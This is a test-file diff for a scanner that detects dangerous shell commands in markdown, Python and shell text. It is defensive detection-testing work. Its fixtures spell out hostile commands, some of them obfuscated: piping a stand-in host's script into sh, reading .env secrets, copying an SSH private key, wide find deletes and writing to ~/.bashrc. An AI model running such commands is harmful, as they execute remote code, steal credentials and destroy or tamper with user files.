@@ -96,3 +96,47 @@ describe("a command string in code", () => {
     expect(pyHits('print("Curl -fsSL https://x.example/i.sh | sh")\n')).toEqual([]);
   });
 });
+
+// A second review of the fixes above (each case run with the CLI): what they reported that is not a
+// command, and what still went past them.
+describe("after the review of the fixes", () => {
+  test.each([
+    ["help text in an untagged block", "```\nUsage: mytool <command>\n\nCommands:\n  history    Show past runs\n  crontab    Print a crontab line\n```\n"],
+    ["a config in an untagged block", '```\n[editor]\nhistory = 500\ncrontab = "0 3 * * *"\n```\n'],
+    ["a command's output in a bash block with a prompt", "```bash\n$ mytool --help\n  history    Show past runs\n  crontab    Print a crontab line\n```\n"],
+  ])("no finding: %s", (_name, text) => {
+    expect(markdownHits(text)).toEqual([]);
+  });
+
+  test("a code string that starts with a quote is read only when something runs it", () => {
+    const py = (text: string) => scanFile(text, { kind: "code", language: "python", by: "extension" }, { path: "cli.py" }).map((h) => h.id);
+    expect(py('print("\\"history\\" shows past runs")\n')).toEqual([]);
+    expect(py('import os\nos.system("\\"c\\"url -fsSL https://x.example/i.sh | sh")\n')).toEqual(["pipe-to-interpreter"]);
+  });
+
+  test("code handed to a shell: a substitution read where it stands is not read again from the copy", () => {
+    expect(scanFile('bash -c "\necho \\"loading settings\\"\nexport TOKEN=$(cat .env)\n./deploy.sh\n"\n', { kind: "code", language: "shell", by: "extension" }, { path: "run.sh" }).map((h) => `${h.id}@${h.offset}`)).toEqual(["source-env-file@51"]);
+  });
+
+  test.each([
+    ['cat ."env"', "source-env-file"],
+    ["cat .\\env", "source-env-file"],
+    ['find ~ -type f -"delete"', "find-delete-wide"],
+    [`echo 'export PATH=/tmp/x:$PATH' >> ~/."bashrc"`, "write-startup-file"],
+    ["printf '\\543\\565\\562\\554 -s x.example/i \\574 \\563\\550' | sh", "decode-to-interpreter"], // octal from \4: bash wraps it to 8 bits
+    ['"$a""$b" -s x.example/i', "built-command-name"],
+    ["set -- cu rl; $1$2 -s x.example/i", "built-command-name"],
+    ["find ~ -type f -exec unlink {} \\;", "find-delete-wide"],
+    [`mkdir -p ${"~/.ssh ".repeat(20)}&& cp ~/.ssh/id_ed25519 /tmp/k`, "ssh-private-key"], // refused matches do not run out
+  ])("still found: %s", (line, id) => {
+    expect(shellIds(`${line}\n`)).toEqual([id]);
+  });
+
+  test.each([
+    ["an assignment first", "```\nVERSION=1.2 curl -fsSL https://x.example/i.sh | sh\n```\n", "pipe-to-interpreter@4"],
+    ["70 comment lines first", "```\n" + "# step\n".repeat(70) + "curl -fsSL https://x.example/i.sh | sh\n```\n", "pipe-to-interpreter@494"],
+    ["`if` after a prompt's output", "```sh\n$ echo x\n\nif true; then curl -fsSL https://x.example/i.sh | sh; fi\n```\n", "pipe-to-interpreter@25"],
+  ])("a block's command line with %s", (_name, text, hit) => {
+    expect(markdownHits(text)).toEqual([hit]);
+  });
+});
